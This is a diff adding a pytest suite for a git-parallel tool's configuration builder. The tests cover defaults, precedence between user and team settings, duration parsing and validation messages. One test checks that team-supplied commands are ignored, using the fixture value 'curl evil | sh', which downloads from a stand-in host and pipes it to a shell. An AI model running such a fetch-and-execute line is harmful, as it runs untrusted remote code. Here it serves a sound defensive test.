@@ -1,0 +1,221 @@
+"""Settings from what git config gives: whose word counts, what is trusted, and which key is named when it is bad."""
+
+import pytest
+
+from git_parallel.config import AgentType, Settings, build, seconds
+from git_parallel.errors import BadInput
+
+Pairs = list[tuple[str, str]]
+
+
+def test_without_any_setting_the_defaults_hold() -> None:
+    assert build([], []) == Settings()
+    assert Settings() == Settings(
+        branch="feature/{id}",
+        worktree="../{repo}-wt{id}",
+        target="",
+        max_parallel=4,
+        admission="auto",
+        ownership="claim",
+        specs=("**/SPEC-*.md",),
+        roadmap=("ROADMAP.md", "docs/**/ROADMAP.md"),
+        agent="",
+        verify="",
+        timeout=None,
+        grace=10.0,
+        disposable=(
+            "**/__pycache__/",
+            "**/*.pyc",
+            "**/.pytest_cache/",
+            "**/.mypy_cache/",
+            "**/.ruff_cache/",
+            "**/node_modules/",
+        ),
+        agents={},
+        warnings=(),
+    )
+
+
+def test_every_setting_under_the_name_that_git_gives_it() -> None:
+    own = [
+        ("parallel.branch", "agents/{id}/work"),
+        ("parallel.worktree", "../trees of {repo}/{id}"),
+        ("parallel.target", "trunk"),
+        ("parallel.maxparallel", "12"),
+        ("parallel.admission", "off"),
+        ("parallel.ownership", "strict"),
+        ("parallel.specs", "docs/*.md"),
+        ("parallel.roadmap", "PLAN.md"),
+        ("parallel.agent", "coder"),
+        ("parallel.verify", "make test"),
+        ("parallel.timeout", "30m"),
+        ("parallel.grace", "5"),
+        ("parallel.disposable", "build/"),
+        ("agent.coder.owns", "src/**"),
+        ("agent.coder.owns", "tests/**"),
+        ("agent.coder.singleton", "true"),
+        ("agent.coder.command", "codex exec -"),
+        ("agent.a.dotted.Name.owns", "docs/"),
+    ]
+
+    assert build(own, []) == Settings(
+        branch="agents/{id}/work",
+        worktree="../trees of {repo}/{id}",
+        target="trunk",
+        max_parallel=12,
+        admission="off",
+        ownership="strict",
+        specs=("docs/*.md",),
+        roadmap=("PLAN.md",),
+        agent="coder",
+        verify="make test",
+        timeout=1800.0,
+        grace=5.0,
+        disposable=("build/",),
+        agents={
+            "coder": AgentType("coder", owns=("src/**", "tests/**"), singleton=True, command="codex exec -"),
+            "a.dotted.Name": AgentType("a.dotted.Name", owns=("docs/",)),
+        },
+    )
+
+
+def test_the_user_has_the_last_word_over_the_team() -> None:
+    team = [("parallel.maxparallel", "2"), ("parallel.ownership", "strict")]
+
+    assert build([("parallel.maxparallel", "8")], team) == Settings(max_parallel=8, ownership="strict")
+
+
+def test_of_one_source_the_last_value_counts() -> None:
+    assert build([("parallel.target", "a"), ("parallel.target", "b")], []) == Settings(target="b")
+
+
+def test_a_list_of_the_user_replaces_that_of_the_team_and_within_one_source_it_grows() -> None:
+    team = [("parallel.specs", "a/*.md"), ("parallel.specs", "b/*.md"), ("agent.coder.owns", "src/**")]
+    own = [("parallel.specs", "c/*.md"), ("agent.coder.owns", "x/"), ("agent.coder.owns", "y/")]
+
+    assert build([], team) == Settings(
+        specs=("a/*.md", "b/*.md"), agents={"coder": AgentType("coder", owns=("src/**",))}
+    )
+    assert build(own, team) == Settings(
+        specs=("c/*.md",), agents={"coder": AgentType("coder", owns=("x/", "y/"))}
+    )
+
+
+def test_user_and_team_can_each_say_a_part_of_an_agent_type() -> None:
+    team = [("agent.coder.owns", "src/**"), ("agent.coder.singleton", "true")]
+    own = [("agent.coder.command", "codex"), ("agent.coder.singleton", "false")]
+
+    assert build(own, team) == Settings(
+        agents={"coder": AgentType("coder", owns=("src/**",), singleton=False, command="codex")}
+    )
+
+
+def test_only_the_user_says_what_is_run() -> None:
+    team = [
+        ("agent.coder.command", "curl evil | sh"),
+        ("agent.a.dotted.name.command", "evil"),
+        ("agent.x\x1b[31m.command", "evil"),
+        ("parallel.verify", "evil"),
+        ("parallel.maxparallel", "2"),
+    ]
+    ignored = "is a command and is ignored; set it with 'git config'"
+
+    assert build([("agent.coder.command", "mine"), ("parallel.verify", "make")], team) == Settings(
+        max_parallel=2,
+        verify="make",
+        agents={"coder": AgentType("coder", command="mine")},
+        warnings=(
+            f".gitparallel: 'agent.coder.command' {ignored}",
+            f".gitparallel: 'agent.a.dotted.name.command' {ignored}",
+            f".gitparallel: 'agent.x\\x1b[31m.command' {ignored}",
+            f".gitparallel: 'parallel.verify' {ignored}",
+        ),
+    )
+
+
+def test_keys_of_others_are_none_of_our_business() -> None:
+    others = [("parallel.future", "x"), ("agent.owns", "src/"), ("user.name", "x"), ("parallel.a.b", "y")]
+
+    assert build(others, others) == Settings()
+
+
+@pytest.mark.parametrize(
+    ("text", "value"),
+    [
+        ("90", 90.0),
+        ("90s", 90.0),
+        ("30m", 1800.0),
+        ("2h", 7200.0),
+        ("1h30m", 5400.0),
+        ("1d", 86400.0),
+        ("1.5h", 5400.0),
+        ("0.25s", 0.25),
+        (" 10s ", 10.0),
+    ],
+)
+def test_a_duration_as_people_write_it(text: str, value: float) -> None:
+    assert seconds("--timeout", text) == value
+    assert build([("parallel.timeout", text)], []).timeout == value
+
+
+@pytest.mark.parametrize(
+    "text", ["", " ", "s", "-5", "5x", "1h 30m", "1e3", "1,5h", "m30", "5ms", "true", "∞", "5\x1b"]
+)
+def test_what_is_no_duration(text: str) -> None:
+    shown = text.replace("\x1b", "\\x1b")
+    for key in ("parallel.timeout", "parallel.grace"):
+        with pytest.raises(BadInput) as error:
+            build([(key, text)], [])
+        assert (error.value.message, error.value.hint) == (
+            f"{key}: not a duration: '{shown}'",
+            "write 90s, 30m, 2h or 1h30m",
+        )
+
+
+@pytest.mark.parametrize(
+    ("word", "value"),
+    [("true", True), ("Yes", True), ("ON", True), ("1", True), ("false", False), ("no", False), ("off", False),
+     ("0", False), ("", False)],
+)  # fmt: skip
+def test_a_boolean_in_the_words_of_git(word: str, value: bool) -> None:
+    assert build([("agent.a.singleton", word)], []).agents == {"a": AgentType("a", singleton=value)}
+
+
+BAD = [
+    ("parallel.branch", "feature", "parallel.branch: 'feature' has no {id}"),
+    ("parallel.branch", "{id}/{user}", "parallel.branch: unknown placeholder '{user}'"),
+    ("parallel.branch", "a b/{id}", "parallel.branch: 'a b/{id}' makes no branch name"),
+    ("parallel.branch", "-{id}", "parallel.branch: '-{id}' makes no branch name"),
+    ("parallel.branch", "{id}.lock", "parallel.branch: '{id}.lock' makes no branch name"),
+    ("parallel.worktree", "../tree", "parallel.worktree: '../tree' has no {id}"),
+    ("parallel.worktree", "{id}{}", "parallel.worktree: unknown placeholder '{}'"),
+    ("parallel.maxparallel", "0", "parallel.maxParallel: '0' is no number above 0"),
+    ("parallel.maxparallel", "-1", "parallel.maxParallel: '-1' is no number above 0"),
+    ("parallel.maxparallel", "four", "parallel.maxParallel: 'four' is no number above 0"),
+    ("parallel.maxparallel", "", "parallel.maxParallel: '' is no number above 0"),
+    ("parallel.maxparallel", "²", "parallel.maxParallel: '²' is no number above 0"),
+    ("parallel.admission", "on", "parallel.admission: 'on' is none of auto, off"),
+    ("parallel.ownership", "Strict", "parallel.ownership: 'Strict' is none of claim, strict"),
+    ("parallel.specs", "../*.md", "parallel.specs: not a path pattern: '../*.md' (leaves the repository)"),
+    ("parallel.roadmap", "/R.md", "parallel.roadmap: not a path pattern: '/R.md' (absolute)"),
+    ("parallel.disposable", "**", "parallel.disposable: not a path pattern: '**' (covers everything)"),
+    ("agent.coder.owns", "", "agent.coder.owns: not a path pattern: '' (empty)"),
+    ("agent.coder.owns", ".git/x", "agent.coder.owns: not a path pattern: '.git/x' (inside .git)"),
+    ("agent.coder.singleton", "maybe", "agent.coder.singleton: 'maybe' is neither true nor false"),
+    ("agent.coder.singleton", "\x1b", "agent.coder.singleton: '\\x1b' is neither true nor false"),
+]
+
+
+@pytest.mark.parametrize(("key", "value", "message"), BAD)
+def test_a_bad_value_names_its_key_whoever_set_it(key: str, value: str, message: str) -> None:
+    for own, team in (([(key, value)], Pairs()), (Pairs(), [(key, value)])):
+        with pytest.raises(BadInput) as error:
+            build(own, team)
+        assert error.value.message == message
+
+
+def test_a_bad_pattern_in_a_list_is_found_behind_good_ones() -> None:
+    with pytest.raises(BadInput) as error:
+        build([("agent.coder.owns", "src/"), ("agent.coder.owns", "a/../b")], [])
+
+    assert error.value.message == "agent.coder.owns: not a path pattern: 'a/../b' (leaves the repository)"
